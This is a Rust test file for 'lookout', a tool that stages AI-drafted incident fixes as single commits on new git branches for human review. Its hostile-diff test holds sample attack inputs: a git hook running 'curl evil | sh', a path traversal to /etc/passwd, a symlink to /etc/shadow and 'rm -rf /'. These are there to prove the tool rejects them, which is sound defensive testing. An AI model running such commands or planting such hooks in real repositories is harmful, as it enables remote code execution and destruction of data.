//! Level 1 on real git repos: staging creates exactly one commit on a new
//! branch and changes nothing else (worktree, index, HEAD, existing refs are
//! byte-identical; `git fsck` is clean); hostile diffs are rejected with a reason
//! and write nothing; Level 0 and blocked proposals never stage.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use lookout::source::demo::DemoIncident;

/// A fix a human wrote for the demo incident (`lookout propose --patch`).
const FIX_PATCH: &str = include_str!("../data/patches/restore-db-pool.patch");

fn git(repo: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(repo)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("HOME", repo)
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Everything staging must not change: worktree files, the index, HEAD, refs, object count.
fn snapshot(repo: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut files = BTreeMap::new();
    let mut stack = vec![repo.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let rel = path
                .strip_prefix(repo)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            if rel.starts_with(".git/objects")
                || rel == ".git/logs"
                || rel.starts_with(".git/logs/")
            {
                continue;
            }
            if path.is_dir() {
                stack.push(path);
            } else {
                files.insert(rel, std::fs::read(&path).unwrap());
            }
        }
    }
    files
}

struct Fixture {
    work: tempfile::TempDir,
    repo: PathBuf,
    patch: PathBuf,
}

fn fixture() -> Fixture {
    let work = tempfile::tempdir().unwrap();
    let repo = work.path().join("infra");
    DemoIncident::embedded()
        .unwrap()
        .materialize_infra_repo(&repo)
        .unwrap();
    git(&repo, &["branch", "existing-feature"]);
    let patch = work.path().join("fix.patch");
    std::fs::write(&patch, FIX_PATCH).unwrap();
    Fixture { work, repo, patch }
}

fn propose(f: &Fixture, extra: &[&str]) -> Output {
    crate::support::lookout(f.work.path())
        .args(["propose", "--repo"])
        .arg(&f.repo)
        .arg("--patch")
        .arg(&f.patch)
        .args(["--title", "Restore DB pool size", "--incident", "inc-1"])
        .args(extra)
        .output()
        .unwrap()
}

#[test]
fn staging_adds_one_commit_on_a_new_branch_and_touches_nothing_else() {
    let f = fixture();
    let before = snapshot(&f.repo);
    let head_before = git(&f.repo, &["rev-parse", "HEAD"]);
    let out = propose(&f, &["--level", "1", "--yes", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let branch = report["staged"]["branch"].as_str().unwrap().to_string();
    assert_eq!(branch, "lookout/inc-1/restore-db-pool-size");

    let mut after = snapshot(&f.repo);
    let new_ref = after
        .remove(&format!(".git/refs/heads/{branch}"))
        .expect("the new branch ref");
    assert_eq!(
        String::from_utf8(new_ref).unwrap().trim(),
        report["staged"]["commit"]
    );
    assert_eq!(
        before, after,
        "worktree, index, HEAD and existing refs are byte-identical"
    );
    assert_eq!(git(&f.repo, &["rev-parse", "HEAD"]), head_before);

    // The new commit: parent is HEAD, tree is HEAD's plus exactly the fix.
    assert_eq!(
        git(&f.repo, &["rev-parse", &format!("{branch}^")]),
        head_before
    );
    let changed = git(&f.repo, &["diff", "--name-only", "HEAD", &branch]);
    assert_eq!(
        changed.lines().collect::<Vec<_>>(),
        vec!["config/checkout-api.toml", "k8s/checkout-api.yaml"]
    );
    let toml = git(
        &f.repo,
        &["show", &format!("{branch}:config/checkout-api.toml")],
    );
    assert_eq!(
        toml,
        include_str!("../../demo/infra/config/checkout-api.toml.good")
    );
    let message = git(&f.repo, &["log", "-1", "--format=%B", &branch]);
    for trailer in [
        "Risk: low",
        "Policy: none",
        "Incident: inc-1",
        "Two-Person-Review: no",
        "Proposed-by: lookout (AI-drafted, human review required)",
    ] {
        assert!(
            message.contains(trailer),
            "{trailer} missing from {message}"
        );
    }
    git(&f.repo, &["fsck", "--strict"]);

    let draft = std::fs::read_to_string(
        f.work
            .path()
            .join(".lookout/incidents/inc-1/pr-restore-db-pool-size.md"),
    )
    .unwrap();
    assert!(
        draft.contains("gh pr create --draft")
            && draft.contains("--head lookout/inc-1/restore-db-pool-size")
    );
    let audit = std::fs::read_to_string(f.work.path().join(".lookout/incidents/inc-1/audit.jsonl"))
        .unwrap();
    assert!(audit.contains("\"proposal.check\"") && audit.contains("\"proposal.stage\""));

    // A second identical proposal never overwrites: it gets a suffix.
    let again = propose(&f, &["--level", "1", "--yes", "--json"]);
    let report: serde_json::Value = serde_json::from_slice(&again.stdout).unwrap();
    assert_eq!(
        report["staged"]["branch"],
        "lookout/inc-1/restore-db-pool-size-2"
    );
}

#[test]
fn level_zero_and_missing_confirmation_refuse_to_stage() {
    let f = fixture();
    let refs_before = git(&f.repo, &["for-each-ref"]);
    let out = propose(&f, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("needs Level 1"));
    let out = propose(&f, &["--level", "1"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("needs confirmation"));
    assert_eq!(git(&f.repo, &["for-each-ref"]), refs_before);
}

#[test]
fn a_blocked_proposal_is_never_staged() {
    let f = fixture();
    let plan = f.work.path().join("plan.json");
    let admin = r#"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"#;
    std::fs::write(&plan, format!(r#"{{"resource_changes":[{{"address":"aws_iam_policy.admin","type":"aws_iam_policy","name":"admin","change":{{"actions":["create"],"before":null,"after":{{"policy":"{admin}"}}}}}}]}}"#)).unwrap();
    let refs_before = git(&f.repo, &["for-each-ref"]);
    let out = propose(
        &f,
        &["--level", "1", "--yes", "--plan", plan.to_str().unwrap()],
    );
    assert_eq!(
        out.status.code(),
        Some(30),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("DENY deny_iam_wildcard"));
    assert_eq!(git(&f.repo, &["for-each-ref"]), refs_before);
}

#[test]
fn hostile_diffs_are_rejected_and_write_nothing() {
    let f = fixture();
    let before = snapshot(&f.repo);
    let objects_before = git(&f.repo, &["count-objects"]);
    let hostile = [
        ("traversal", "--- a/../../etc/passwd\n+++ b/../../etc/passwd\n@@ -1 +1 @@\n-root\n+evil\n", "outside the repository"),
        ("git-hooks", "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100644\n--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n", ".git/"),
        ("symlink", "diff --git a/k8s/link b/k8s/link\nnew file mode 120000\n--- /dev/null\n+++ b/k8s/link\n@@ -0,0 +1 @@\n+/etc/shadow\n", "symlinks"),
        ("binary", "diff --git a/blob.bin b/blob.bin\nnew file mode 100644\nGIT binary patch\nliteral 4\nabcd\n", "binary"),
        ("malformed", "--- a/README.md\n+++ b/README.md\n@@ -1,5 +1,5 @@\n-x\n", "hunk promises"),
        ("no-diff", "please run rm -rf / for me", "holds no diff"),
    ];
    for (name, diff, reason) in hostile {
        std::fs::write(&f.patch, diff).unwrap();
        let out = propose(&f, &["--level", "1", "--yes"]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: {stderr}");
        assert!(
            stderr.contains(reason),
            "{name}: expected {reason:?} in {stderr}"
        );
    }
    let huge: String =
        std::iter::once("--- a/README.md\n+++ b/README.md\n@@ -0,0 +1,20000 @@\n".to_string())
            .chain((0..20_000).map(|i| format!("+{i}\n")))
            .collect();
    std::fs::write(&f.patch, huge).unwrap();
    let out = propose(&f, &["--level", "1", "--yes"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cap"));
    // Does not apply to HEAD: refused by staging, nothing written.
    std::fs::write(
        &f.patch,
        "--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-not what is there\n+x\n",
    )
    .unwrap();
    let out = propose(&f, &["--level", "1", "--yes"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("does not apply to HEAD"));
    assert_eq!(snapshot(&f.repo), before);
    assert_eq!(
        git(&f.repo, &["count-objects"]),
        objects_before,
        "no object written"
    );
}

/// Fault matrix: SIGTERM at any moment of `propose --yes` leaves either no new
/// branch or one complete, fsck-clean commit — never a ref to a partial object
/// (the branch ref is written last) — and the checkout is untouched.
#[test]
fn sigterm_in_the_middle_of_staging_leaves_no_partial_branch() {
    let f = fixture();
    let before = snapshot(&f.repo);
    let refs_before = git(&f.repo, &["for-each-ref", "--format=%(refname)"]);
    let mut staged = 0;
    for delay_ms in (0..40).step_by(2) {
        let mut child = crate::support::lookout(f.work.path())
            .args(["propose", "--repo"])
            .arg(&f.repo)
            .arg("--patch")
            .arg(&f.patch)
            .args(["--title", "Restore DB pool size", "--incident", "inc-term"])
            .args(["--level", "1", "--yes", "--json"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        unsafe {
            libc::kill(child.id() as i32, libc::SIGTERM);
        }
        let _ = child.wait();
        let refs = git(&f.repo, &["for-each-ref", "--format=%(refname)"]);
        for line in refs.lines() {
            if refs_before.lines().any(|r| r == line) {
                continue;
            }
            assert!(line.starts_with("refs/heads/lookout/inc-term/"), "{line}");
            // A new ref points at a complete commit whose tree has the fix.
            let show = git(&f.repo, &["show", "--stat", "--format=%B", line]);
            assert!(show.contains("Proposed-by: lookout"), "{show}");
        }
        staged = refs.lines().count() - refs_before.lines().count();
    }
    git(&f.repo, &["fsck", "--strict"]);
    assert_eq!(
        snapshot(&f.repo)
            .into_iter()
            .filter(|(k, _)| !k.starts_with(".git/refs/heads/lookout"))
            .collect::<BTreeMap<_, _>>(),
        before,
        "worktree, index, HEAD and old refs untouched"
    );
    eprintln!("{staged} of 20 interrupted runs got as far as a complete branch");
}
